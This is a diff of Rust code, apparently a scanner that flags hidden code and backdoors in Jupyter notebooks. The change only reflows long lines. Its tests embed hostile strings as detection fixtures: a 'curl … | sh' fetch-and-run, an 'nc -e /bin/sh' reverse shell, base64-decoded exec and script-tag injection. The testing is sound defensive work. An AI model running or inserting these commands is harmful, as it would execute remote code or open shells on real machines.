@@ -133,7 +133,8 @@ impl Reader<'_, '_> {
             return;
         }
         let first = cell.source.trim_start();
-        let mut words = first.strip_prefix("%%").unwrap_or_default().lines().next().unwrap_or_default().split_whitespace();
+        let mut words =
+            first.strip_prefix("%%").unwrap_or_default().lines().next().unwrap_or_default().split_whitespace();
         let magic = words.next().unwrap_or_default();
         match magic {
             "script" if words.any(|word| word.contains("python")) => self.python(&cell),
@@ -200,7 +201,8 @@ fn shell_part(line: &str) -> Option<&str> {
     let is_name = |name: &&str| name.chars().all(|c| c.is_alphanumeric() || matches!(c, '_' | ',' | ' '));
     let (_, right) = line.split_once('=').filter(|(name, _)| is_name(name)).unwrap_or(("", line));
     let right = right.trim_start();
-    let length = command(right).or_else(|| right.strip_prefix('!').filter(|_| right.len() < line.len()).map(str::len))?;
+    let length =
+        command(right).or_else(|| right.strip_prefix('!').filter(|_| right.len() < line.len()).map(str::len))?;
     right.get(right.len().saturating_sub(length)..)
 }
 
@@ -272,7 +274,10 @@ mod tests {
         assert_eq!(told("%timeit -n 1 -r 1 exec(__import__('base64').b64decode(x))"), ["HiddenCode Started"]);
         let magic = "get_ipython().run_cell_magic('bash', '', 'cd x\\\\ncurl http://203.0.113.7/a | sh')";
         assert_eq!(told(magic), ["HiddenCode Started"]);
-        assert_eq!(told("from IPython import get_ipython as g\\ng().system('nc -e /bin/sh x 1')"), ["Backdoor Started"]);
+        assert_eq!(
+            told("from IPython import get_ipython as g\\ng().system('nc -e /bin/sh x 1')"),
+            ["Backdoor Started"]
+        );
         let html = GOOD.replace("<b>1</b>", "<script>1</script>");
         assert_eq!(
             inspect(&Notebook, "", html.as_bytes()).list().len(),
@@ -292,7 +297,9 @@ mod tests {
             facts.list().iter().filter_map(reach).collect::<Vec<_>>()
         };
         let fetch = "curl http://203.0.113.7/a | sh";
-        for head in ["%%bash", "%%script sh", "%%sh --bg", "%%sx", "%%system", "%%!", "%%writefile run.sh", "%%script bash"] {
+        for head in
+            ["%%bash", "%%script sh", "%%sh --bg", "%%sx", "%%system", "%%!", "%%writefile run.sh", "%%script bash"]
+        {
             assert_eq!(cell(&format!("{head}\n{fetch}")), ["HiddenCode"], "{head}");
             assert_eq!(cell(&format!("{head}\nls -l\necho waag-inert")), Vec::<String>::new(), "{head}");
         }
